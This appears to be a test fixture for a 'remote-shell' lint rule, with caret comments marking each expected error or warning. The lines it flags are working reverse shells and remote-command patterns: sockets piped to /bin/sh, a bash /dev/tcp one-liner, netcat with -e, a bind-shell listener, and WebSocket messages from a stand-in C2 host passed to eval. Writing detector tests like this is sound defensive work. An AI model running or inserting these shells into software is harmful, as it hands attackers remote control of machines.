import { exec, spawn } from 'node:child_process';
import net from 'node:net';
import WebSocket from 'ws';

const shell = spawn('/bin/sh', ['-i']);
const client = new net.Socket();
client.connect(4444, '192.0.2.9', () => {
  client.pipe(shell.stdin);
  //<^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
  shell.stdout.pipe(client);
  //<^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
  shell.stderr.pipe(client);
  //<^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
});

exec('bash -i >& /dev/tcp/192.0.2.9/4444 0>&1');
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error

spawn('nc', ['192.0.2.9', '4444', '-e', '/bin/sh']);
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error

const orders = net.connect(4444, '192.0.2.9');
orders.on('data', (order) => {
  exec(order.toString(), (_error, output) => {
  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
    orders.write(output);
//  ^^^^^^^^^^^^^^^^^^^^ remote-shell: error
  });
});

const channel = new WebSocket('wss://c2.example.invalid/');
channel.on('message', (text: string) => {
  eval(text.toString());
  //<^^^^^^^^^^^^^^^^^^ remote-shell: error
});

export function hand(): void {
  const socket = net.connect(4444, '192.0.2.9');
  spawn('/bin/sh', [], { stdio: [socket, socket, socket] });
  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: warning
}

export function open(): void {
  net
    .createServer((socket) => {
      socket.on('data', (order) => exec(String(order)));
//                                 ^^^^^^^^^^^^^^^^^^^ remote-shell: warning
    })
    .listen(4444);
}

const push = new WebSocket('wss://c2.example.invalid/push');
push.onmessage = (event) => eval(String(event.data));
//                          ^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
